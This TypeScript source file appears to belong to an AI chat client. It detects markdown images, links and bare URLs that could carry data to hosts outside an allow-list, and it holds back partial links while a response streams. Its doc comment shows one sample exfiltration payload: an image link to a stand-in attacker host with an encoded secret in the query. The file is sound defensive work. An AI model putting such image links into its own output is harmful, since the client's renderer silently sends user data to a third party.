/**
 * Exfiltration through links: markdown images (fetched by the client's renderer without a click), markdown
 * links and bare URLs that point to a host not on the allow-list and carry data (a query string, a long
 * path segment, or an encoded blob). Images to other hosts are flagged even without data.
 *
 * @example
 * findExfiltration('![x](https://evil.test/p?d=c2VjcmV0)', [])
 * // [{ start: 5, end: 35, kind: 'image', host: 'evil.test' }]
 */
export interface LinkFinding {
  /** Span of the URL in the text. */
  start: number;
  end: number;
  kind: 'image' | 'link' | 'url';
  host: string;
}

const MD = /(!?)\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]+)>?(?:\s+"[^"\n]*")?\s*\)/g;
const BARE = /\bhttps?:\/\/[^\s<>"'`)\]]+/g;

export function hostAllowed(host: string, allowed: readonly string[]): boolean {
  const h = host.toLowerCase();
  return allowed.some((a) => {
    const p = a.toLowerCase();
    return p.startsWith('*.') ? h === p.slice(2) || h.endsWith(p.slice(1)) : h === p;
  });
}

/** True when the URL carries data: any query or fragment, or a path segment that looks encoded or long. */
function carriesData(url: URL): boolean {
  if (url.search.length > 1 || url.hash.length > 1) return true;
  return url.pathname.split('/').some((seg) => seg.length >= 32 || (seg.length >= 16 && /^[A-Za-z0-9+_=%-]+$/.test(seg) && /\d/.test(seg) && /[A-Za-z]/.test(seg)));
}

export function findExfiltration(text: string, allowedHosts: readonly string[]): LinkFinding[] {
  const out: LinkFinding[] = [];
  const covered: [number, number][] = [];
  if (text.indexOf('](') !== -1) {
    for (const m of text.matchAll(MD)) {
      const raw = m[3]!;
      const start = m.index + m[0].indexOf(raw, m[1]!.length + m[2]!.length + 2);
      covered.push([m.index, m.index + m[0].length]);
      let url: URL;
      try {
        url = new URL(raw);
      } catch {
        // Not a parseable URL: nothing a client would fetch, so nothing to exfiltrate through.
        continue;
      }
      if (url.protocol !== 'http:' && url.protocol !== 'https:') continue;
      if (hostAllowed(url.hostname, allowedHosts)) continue;
      const image = m[1] === '!';
      if (image || carriesData(url)) out.push({ start, end: start + raw.length, kind: image ? 'image' : 'link', host: url.hostname });
    }
  }
  if (text.indexOf('http') !== -1) {
    for (const m of text.matchAll(BARE)) {
      if (covered.some(([s, e]) => m.index >= s && m.index < e)) continue;
      let url: URL;
      try {
        url = new URL(m[0]);
      } catch {
        // Not a parseable URL: nothing a client would fetch, so nothing to exfiltrate through.
        continue;
      }
      if (hostAllowed(url.hostname, allowedHosts) || !carriesData(url)) continue;
      out.push({ start: m.index, end: m.index + m[0].length, kind: 'url', host: url.hostname });
    }
  }
  return out;
}

/** Length of a trailing unfinished markdown link/image or URL (held back while streaming). */
export function pendingLinkPrefix(text: string, max: number): number {
  const open = text.lastIndexOf('[');
  if (open !== -1 && text.length - open <= max) {
    const tail = text.slice(open);
    if (/^\[[^\]\n]*$/.test(tail) || /^\[[^\]\n]*\]$/.test(tail) || /^\[[^\]\n]*\]\([^)\n]*$/.test(tail)) return tail.length + (open > 0 && text[open - 1] === '!' ? 1 : 0);
  }
  const http = text.lastIndexOf('http');
  if (http !== -1 && text.length - http <= max && /^https?(?::\/{0,2}[^\s<>"'`)\]]*)?$/.test(text.slice(http))) return text.length - http;
  return 0;
}
